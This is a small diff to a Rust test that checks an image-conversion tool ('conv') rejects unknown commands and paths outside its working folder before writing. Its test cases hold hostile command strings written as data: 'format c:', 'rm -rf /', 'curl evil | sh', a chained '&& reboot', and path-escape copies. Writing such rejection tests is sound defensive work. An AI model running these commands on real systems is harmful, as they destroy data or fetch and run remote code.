@@ -247,7 +247,11 @@ fn conv_makes_the_frames_of_a_scan_from_his_img_and_tiff() {
 fn conv_refuses_other_commands_and_other_folders_before_it_writes() {
     let cases = [
         ("format c:\n", "a line is not understood", "line = 1"),
-        ("his2img a.his\nimg_ave a001.img dark.img\nrm -rf /\ncurl evil | sh\n", "a line is not understood", "line = 4"),
+        (
+            "his2img a.his\nimg_ave a001.img dark.img\nrm -rf /\ncurl evil | sh\n",
+            "a line is not understood",
+            "line = 4",
+        ),
         ("his2img a.his\ncopy a001.img ..\\q001.img\n", "names a file outside the folder", "line = 2"),
         ("his2img a.his\nmv a001.img /tmp/q001.img\n", "names a file outside the folder", "line = 2"),
         ("his2img a.his\ncopy a001.img q001.img && reboot\n", "a line is not understood", "line = 2"),
